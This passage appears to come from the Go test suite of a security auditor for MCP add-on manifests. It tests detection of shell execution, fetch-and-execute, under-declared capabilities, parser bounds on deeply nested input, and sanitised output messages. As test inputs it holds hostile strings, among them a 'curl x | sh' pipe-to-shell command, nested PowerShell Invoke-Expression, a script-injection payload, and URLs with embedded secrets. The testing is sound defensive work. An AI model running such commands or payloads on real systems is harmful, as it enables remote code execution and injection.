	runCases(t, []auditCase{
		{"install block uses the network; verify is judged but not inferred", m, []string{
			"danger fetch_exec install.verify[2]", "danger pipe_to_shell install.verify[2]", "danger shell_exec install.verify[2]",
			"warn shell_meta install.verify[2]"}, true, false},
	})
}

func TestCoherence(t *testing.T) {
	runCases(t, []auditCase{
		{"no capabilities table, no coherence", stdio("sh", "-c", "x"), []string{"danger shell_exec mcp.args[1]"}, false, true},
		{"strictest profile and a spawn", withCaps(stdio("sh", "-c", "x"), addon.NetworkNone, addon.ExecNone), []string{
			"danger cap_exec_underdeclared capabilities", "danger shell_exec mcp.args[1]"}, false, true},
		{"empty allowlist is none", withCaps(stdio("sh", "-c", "x"), addon.NetworkNone, addon.ExecAllow), []string{
			"danger cap_exec_underdeclared capabilities", "danger shell_exec mcp.args[1]"}, false, true},
		{"allowlist covers", withCaps(stdio("sh", "-c", "x"), addon.NetworkNone, addon.ExecAllow, "sh"), []string{"danger shell_exec mcp.args[1]"}, false, true},
		{"network under-declared by npx", withCaps(stdio("npx", "pkg@1.0.0"), addon.NetworkNone, addon.ExecNone), []string{
			"danger cap_net_underdeclared capabilities"}, true, false},
		{"network under-declared by npm", withCaps(stdio("npm", "exec", "pkg@1.0.0"), addon.NetworkNone, addon.ExecNone), []string{
			"danger cap_net_underdeclared capabilities"}, true, false},
		{"network over-declared", withCaps(stdio("my-mcp"), addon.NetworkFull, addon.ExecNone), []string{"info cap_net_overdeclared capabilities"}, false, false},
		{"exec over-declared", withCaps(stdio("my-mcp"), addon.NetworkNone, addon.ExecFull), []string{"info cap_exec_overdeclared capabilities"}, false, false},
		{"allowlist without evidence is fine", withCaps(stdio("my-mcp"), addon.NetworkNone, addon.ExecAllow, "lean-ctx"), []string{}, false, false},
		{"http under-declared", withCaps(remote("https://x.example/mcp"), addon.NetworkNone, addon.ExecNone), []string{
			"danger cap_net_underdeclared capabilities", "danger remote_endpoint mcp.url"}, true, false},
		{"download script needs network", withCaps(stdio("sh", "-c", "curl x | sh"), addon.NetworkFull, addon.ExecFull), []string{
			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, true},
	})
}

// TestBounds feeds pathological input: it must finish (fast: the benchmark
// measures it) with a finding instead of hanging or overflowing.
func TestBounds(t *testing.T) {
	deep := strings.Repeat("(", 10000) + "x" + strings.Repeat(")", 10000)
	heredoc := "cat <<EOF\n" + strings.Repeat("x", 200<<10) + "\nEOF\n"
	nestedSh := "x"
	for i := 0; i < 12; i++ {
		nestedSh = "sh -c " + shellQuote(nestedSh)
	}
	manyCmds := strings.Repeat("a b c d e f; ", 1200) // under 16 KiB, over the node budget
	cmdSubst := strings.Repeat("$(", 3000) + "x" + strings.Repeat(")", 3000)
	for _, tc := range []struct {
		name, script string
	}{
		{"10k nested subshells", deep},
		{"200 KB heredoc", heredoc},
		{"scripts nested 12 deep", nestedSh},
		{"16 KB of commands", manyCmds},
		{"3000 nested substitutions", cmdSubst},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := assess.Audit(stdio("sh", "-c", tc.script))
			found := false
			for _, f := range r.Findings {
				if f.Code == assess.CodeUnparsableShell {
					found = true
				}
			}
			if !found {
				t.Errorf("no %s finding; got %v", assess.CodeUnparsableShell, brief(r.Findings))
			}
		})
	}
}

// TestBoundsOfReaders feeds each reader of command text (wrappers, cmd.exe,
// PowerShell, wsl, ssh, env values) input nested or sized beyond its
// bound: the audit reports that it stopped instead of recursing on.
func TestBoundsOfReaders(t *testing.T) {
	repeat := func(word string, n int, last ...string) []string {
		out := []string{}
		for i := 0; i < n; i++ {
			out = append(out, strings.Fields(word)...)
		}
		return append(out, last...)
	}
	psIex := "my-mcp"
	for i := 0; i < 12; i++ {
		psIex = "iex '" + strings.ReplaceAll(psIex, "'", "''") + "'"
	}
	envValue := "my-mcp"
	for i := 0; i < 12; i++ {
		envValue = "GIT_SSH_COMMAND=" + shellQuote(envValue) + " git fetch"
	}
	splits := []string{"-S"}
	for i := 0; i < 40; i++ {
		splits = append(splits, "-S")
	}
	for _, tc := range []struct {
		name string
		m    *addon.Manifest
	}{
		{"cmd /c nested 12 deep", stdio("cmd", repeat("/c cmd", 12, "/c", "my-mcp")...)},
		{"cmd line over 16 KiB", stdio("cmd", "/c", strings.Repeat("my-mcp & ", 2000))},
		{"PowerShell parentheses 1000 deep", stdio("powershell", "-c", strings.Repeat("(", 1000)+"x"+strings.Repeat(")", 1000))},
		{"PowerShell script blocks 1000 deep", stdio("pwsh", "-c", strings.Repeat("& {", 1000)+"x"+strings.Repeat("}", 1000))},
		{"PowerShell assignments 3000 long", stdio("pwsh", "-c", strings.Repeat("$a = ", 3000)+"x")},
		{"Invoke-Expression nested 12 deep", stdio("powershell", "-c", psIex)},
		{"PowerShell script over 16 KiB", stdio("powershell", "-c", strings.Repeat("my-mcp; ", 2100))},
		{"env -S splitting 40 times", stdio("env", append(splits, "my-mcp")...)},
		{"wrappers 48 deep", stdio("sudo", repeat("nice timeout 5 env", 12, "my-mcp")...)},
		{"ssh remote commands 12 deep", stdio("ssh", repeat("h ssh", 12, "h", "my-mcp")...)},
		{"wsl nested 12 deep", stdio("wsl", repeat("-e wsl", 12, "my-mcp")...)},
		{"env values nested 12 deep", withEnv(stdio("my-mcp"), "GIT_SSH_COMMAND", envValue)},
		{"docker in docker 12 deep", stdio("docker", repeat("run img:1 docker", 12, "run", "img:1")...)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := assess.Audit(tc.m)
			found := false
			for _, f := range r.Findings {
				if f.Code == assess.CodeUnparsableShell && strings.HasPrefix(f.Message, "not analysed: ") {
					found = true
				}
			}
			if !found {
				t.Errorf("no %s finding; got %v", assess.CodeUnparsableShell, brief(r.Findings))
			}
		})
	}
}

func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// TestMessagesAreSafe checks that no message echoes control characters,
// markup or secrets.
func TestMessagesAreSafe(t *testing.T) {
	secret := "hunter2hunter2hunter2"
	ms := []*addon.Manifest{
		remote("https://admin:" + secret + "@evil\x1b]0;x\x07.example/mcp?token=" + secret),
		remote("https://x.example/mcp", "Authorization", "Bearer "+secret, "X-<script>", "1"),
		stdio("\x1b[2Jnpx", "pkg<script>alert(1)</script>"),
		stdio("npx", "pkg\u202e@1"),
		stdio("uvx", "--from", "git+https://user:"+secret+"@github.com/o/r", "r"),
		withEnv(stdio("my-mcp"), "TOKEN\x1b", secret, "GH_TOKEN", secret),
		stdio("docker", "run", "img\x1b[31m"),
	}
	unsafe := regexp.MustCompile(`[^\x20-\x7e]|[<>&"'\\]`)
	for i, m := range ms {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			for _, f := range assess.Audit(m).Findings {
				if unsafe.MatchString(f.Message) {
					t.Errorf("message %q has unsafe characters", f.Message)
				}
				if strings.Contains(f.Message, secret) || strings.Contains(f.Message, "admin") {
					t.Errorf("message %q echoes a secret", f.Message)
				}
				if unsafe.MatchString(f.Path) {
					t.Errorf("path %q has unsafe characters", f.Path)
				}
			}
		})
	}
}

// TestAuditConcurrent runs audits of different manifests at once, as the
// server does, and holds each to the result the same audit gives alone:
// the auditors Audit takes from its pool carry nothing from one audit into
// another. Under -race it also checks that none is shared while in use.
func TestAuditConcurrent(t *testing.T) {
	var ms []*addon.Manifest
	for _, s := range fuzzSeeds {
		ms = append(ms, stdio(s[0], s[1:]...))
	}
	want := make([]assess.Result, len(ms))
	for i, m := range ms {
		want[i] = assess.Audit(m)
	}
	const workers = 4
	errs := make(chan string, workers)
	for w := range workers {
		go func() {
			for round := range 3 {
				for k := range ms {
					i := (k*7 + w + round) % len(ms) // each worker in its own order
					if diff := cmp.Diff(want[i], assess.Audit(ms[i])); diff != "" {
						errs <- fmt.Sprintf("manifest %d audited beside others differs:\n%s", i, diff)
						return
					}
				}
			}
			errs <- ""
		}()
	}
	for range workers {
		if e := <-errs; e != "" {
			t.Error(e)
		}
	}
}
